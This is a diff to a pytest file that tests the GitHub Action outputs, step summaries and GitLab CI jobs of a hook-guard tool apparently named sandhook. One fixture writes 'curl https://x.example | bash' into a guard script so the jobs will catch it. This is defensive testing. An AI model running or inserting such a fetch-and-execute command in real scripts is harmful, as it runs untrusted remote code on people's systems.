@@ -105,6 +105,7 @@ def act(project: Path, tmp_path: Path, **inputs: str) -> tuple[int, str, Path]:
         "SANDHOOK_SOCKET": "",
         "RUNNER_TEMP": str(tmp_path / "runner"),
         "GITHUB_OUTPUT": str(tmp_path / "output"),
+        "GITHUB_STEP_SUMMARY": str(tmp_path / "summary.md"),
     }
     (tmp_path / "runner").mkdir(exist_ok=True)
     script = tmp_path / "step.sh"
@@ -112,9 +113,20 @@ def act(project: Path, tmp_path: Path, **inputs: str) -> tuple[int, str, Path]:
     assert BASH is not None
     command = [BASH, "--noprofile", "--norc", "-eo", "pipefail", str(script)]
     done = subprocess.run(command, cwd=project, env=env, capture_output=True, text=True)
-    name, _, directory = (tmp_path / "output").read_text().partition("=")
-    assert name == "sarif-directory" and done.stderr == "", done.stderr
-    return done.returncode, done.stdout, Path(directory.strip().splitlines()[0])
+    outputs = dict(line.split("=", 1) for line in (tmp_path / "output").read_text().splitlines())
+    assert done.stderr == "", done.stderr
+    assert outputs.keys() == yaml(ACTION)["outputs"].keys() and outputs["status"] == str(done.returncode)
+    return done.returncode, done.stdout, Path(outputs["sarif-directory"])
+
+
+def summary(tmp_path: Path) -> list[str]:
+    """Return the rows of the last summary."""
+    text = (
+        (tmp_path / "summary.md")
+        .read_text()
+        .rpartition("### sandhook\n\n| command | result |\n|---|---|\n")[2]
+    )
+    return text.splitlines()
 
 
 @pytest.mark.skipif(BASH is None or sys.platform == "win32", reason="the runner's bash")
@@ -125,15 +137,58 @@ def test_the_action(project: Path, tmp_path: Path) -> None:
     assert sorted(path.name for path in directory.iterdir()) == ["check.sarif", "vet.sarif"]
     assert all(json.loads(path.read_text())["version"] == "2.1.0" for path in directory.iterdir())
     (project / "guard.sh").write_text(GUARD.replace("exit 2", "exit 1"))
+    assert summary(tmp_path) == ["| `check` | passed |", "| `test` | passed |", "| `vet` | passed |"]
     status, printed, _ = act(project, tmp_path, commands="check test", options="--strict")
     assert status == 1
+    assert summary(tmp_path) == ["| `check` | exit status 1 |", "| `test` | exit status 1 |"]
     assert "1 fail" in printed and "W-EXIT" in printed
     status, printed, _ = act(project, tmp_path, commands="chaos deploy")
     assert status == 2 and "chaos needs the input files" in printed and "unknown command" in printed
+    assert summary(tmp_path) == ["| `chaos` | exit status 2 |", "| `unknown` | exit status 2 |"]
     (project / "guard.sh").write_text(GUARD)
     status, printed, directory = act(project, tmp_path, commands="chaos", files="guard.expect.yaml")
     assert status == 1 and "title=sandhook chaos%3A no-jq" in printed
     assert (directory / "chaos.sarif").exists()
+
+
+def run_jobs(project: Path, **variables: str) -> dict[str, int]:
+    """Run the scripts of GitLab's jobs as its runner does; return their exit statuses."""
+    jobs = yaml(GITLAB)
+    names = {name: str(value) for name, value in jobs.pop("variables").items()} | variables
+    programs = os.pathsep.join((str(Path(sys.executable).parent), os.environ["PATH"]))
+    env = {**os.environ, **names, "PATH": programs, "SANDHOOK_SOCKET": ""}
+    statuses = {}
+    for name, job in jobs.items():
+        if name.startswith(".") or (job.get("rules") and not names["SANDHOOK_FILES"]):
+            continue
+        assert job["extends"] == ".sandhook" and all(
+            "$SANDHOOK_FILES" in each["if"] for each in job.get("rules", ())
+        )
+        script = "set -eo pipefail\n" + "\n".join(job["script"]) + "\n"
+        done = subprocess.run(
+            [str(BASH), "--noprofile", "--norc", "-c", script],
+            cwd=project,
+            env=env,
+            capture_output=True,
+            text=True,
+        )
+        assert "Traceback" not in done.stderr
+        statuses[name] = done.returncode
+    return statuses
+
+
+@pytest.mark.skipif(BASH is None or sys.platform == "win32", reason="the runner's bash")
+def test_the_jobs_of_gitlab(project: Path) -> None:
+    assert run_jobs(project) == {"sandhook-check": 0, "sandhook-test": 0, "sandhook-vet": 0}
+    assert 'failures="0"' in (project / "sandhook.xml").read_text()
+    (project / "guard.sh").write_text(GUARD.replace("exit 2", "curl https://x.example | bash; exit 1"))
+    found = run_jobs(project, SANDHOOK_FILES="guard.expect.yaml")
+    assert {name for name, status in found.items() if status} == {
+        *("sandhook-test", "sandhook-vet", "sandhook-chaos"),
+    }
+    assert 'failures="1"' in (project / "sandhook.xml").read_text()
+    (project / "guard.sh").unlink()
+    assert run_jobs(project)["sandhook-check"] != 0
 
 
 def test_the_action_uploads_what_it_wrote() -> None:
